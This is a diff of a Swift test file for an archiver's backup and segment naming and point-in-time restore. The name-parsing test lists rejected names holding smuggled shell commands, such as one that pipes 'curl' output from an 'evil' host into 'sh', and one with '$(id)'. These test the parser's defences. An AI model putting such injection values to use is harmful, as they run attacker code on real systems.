@@ -118,7 +118,7 @@ import Testing
     #expect(bytes == (try Data(contentsOf: Self.vectorURL)))
     // Nine records: one of them is a lost range of two LSNs.
     #expect(manifest.firstLSN == 1 && manifest.lastLSN == 10 && manifest.recordCount == 9)
-    #expect(manifest.fileName == "node-a.00000000000000000001-00000000000000000010.sdsegment")
+    #expect(manifest.fileName == "node-a.00000000000000000001-00000000000000000010.1d67ad53.sdsegment")
     let segment = try ArchiveSegment(path: Self.vectorURL.path)
     var lsns: [UInt64] = []
     try segment.forEachRecord(scratchDirectory: directory.path) { scanned throws(SoftadastraError) in
@@ -152,17 +152,21 @@ import Testing
 
   @Test func namesParseOnlyWhatTheArchiverWrites() {
     #expect(
-      ArchiveNames.parse("node-a.00000000000000000005.20261201T170514Z.base.sdbackup")
-        == .base(nodeID: "node-a", lastLSN: 5, time: "20261201T170514Z"))
+      ArchiveNames.parse("node-a.00000000000000000005.20261201T170514Z.0a1b2c3d.base.sdbackup")
+        == .base(nodeID: "node-a", lastLSN: 5, time: "20261201T170514Z", checksum: 0x0a1b_2c3d))
     #expect(
-      ArchiveNames.parse("my.node.00000000000000000006-00000000000000000009.sdsegment")
-        == .segment(nodeID: "my.node", firstLSN: 6, lastLSN: 9))
+      ArchiveNames.parse("my.node.00000000000000000006-00000000000000000009.ffffffff.sdsegment")
+        == .segment(nodeID: "my.node", firstLSN: 6, lastLSN: 9, baseChecksum: 0xffff_ffff))
     for name in [
-      "n.00000000000000000001.z;curl${IFS}evil|sh.base.sdbackup",
-      "n.00000000000000000001.20261201T170514Z;x.base.sdbackup",
-      "n.1.20261201T170514Z.base.sdbackup", "n.00000000000000000009-00000000000000000006.sdsegment",
-      ".hidden.00000000000000000001-00000000000000000001.sdsegment", "n.00000000000000000001.sdbackup",
-      "n$(id).00000000000000000001-00000000000000000001.sdsegment",
+      "n.00000000000000000001.z;curl${IFS}evil|sh.0a1b2c3d.base.sdbackup",
+      "n.00000000000000000001.20261201T170514Z;x.0a1b2c3d.base.sdbackup",
+      "n.00000000000000000001.20261201T170514Z.0a1b2c3;.base.sdbackup",
+      "n.00000000000000000001.20261201T170514Z.base.sdbackup", "n.1.20261201T170514Z.0a1b2c3d.base.sdbackup",
+      "n.00000000000000000009-00000000000000000006.0a1b2c3d.sdsegment",
+      "n.00000000000000000001-00000000000000000001.sdsegment",
+      "n.00000000000000000001-00000000000000000001.0A1B2C3D.sdsegment",
+      ".hidden.00000000000000000001-00000000000000000001.0a1b2c3d.sdsegment",
+      "n$(id).00000000000000000001-00000000000000000001.0a1b2c3d.sdsegment",
     ] {
       #expect(ArchiveNames.parse(name) == nil, "\(name)")
     }
@@ -299,12 +303,12 @@ import Testing
     }
     FileBytes.write(saved, to: middle)
     // Renamed: a copy under another range is not what its name says.
-    guard case .segment(_, let first, let last) = ArchiveNames.parse(segments[1]) else {
+    guard case .segment(_, let first, let last, let chain) = ArchiveNames.parse(segments[1]) else {
       Issue.record("unparsed \(segments[1])")
       return
     }
     let renamed = destination.file(
-      "node-a.\(ArchiveNames.digits(first))-\(ArchiveNames.digits(last + 1))\(SegmentFormat.fileExtension)")
+      ArchiveNames.segmentName(nodeID: "node-a", firstLSN: first, lastLSN: last + 1, baseChecksum: chain))
     FileBytes.write(saved, to: renamed)
     #expect(
       try ArchiveSurvey.run(location: ArchiveDirectory(destination.path)).problems.contains {
@@ -444,6 +448,13 @@ import Testing
     model.log = early
     for _ in 0..<10 { try model.step() }
     _ = try archiver.ship()
+    var scanner = try WALScanner(path: wal)
+    var lastTime: UInt64 = 0
+    while let scanned = try scanner.next() { lastTime = scanned.record.timestamp.milliseconds }
+    let oldEnd = (
+      lsn: model.log.last!.lsn, state: model.state(upTo: model.log.last!.lsn), timestamp: Int64(lastTime),
+      stored: try #require(try archiver.state()).lastShippedMilliseconds
+    )
     try model.client.close()
     let restored = try Restore.run(
       archive: try BackupArchive(path: backup), walPath: wal, nodeID: "node-a", force: true)
@@ -465,6 +476,17 @@ import Testing
     #expect(entries == model.state(upTo: model.log.last!.lsn))
     let survey = try ArchiveSurvey.run(location: ArchiveDirectory(destination.path))
     #expect(survey.isSound && survey.chains.count == 2)
+    // A time before the node was restored gives the state it had then: the old history's.
+    let (before, beforeEntries) = try Self.restore(
+      destination.path, to: ReplayTarget(milliseconds: UInt64(oldEnd.timestamp)))
+    #expect(before.lsn == oldEnd.lsn)
+    #expect(beforeEntries == oldEnd.state)
+    // After the old chain's last file and before the restore, the state is in no chain: refused.
+    if oldEnd.stored > Int64(lastTime) + 1 {
+      #expect(throws: SoftadastraError.self) {
+        try Self.restore(destination.path, to: ReplayTarget(milliseconds: UInt64(oldEnd.stored) + 1))
+      }
+    }
     try model.client.close()
   }
 }
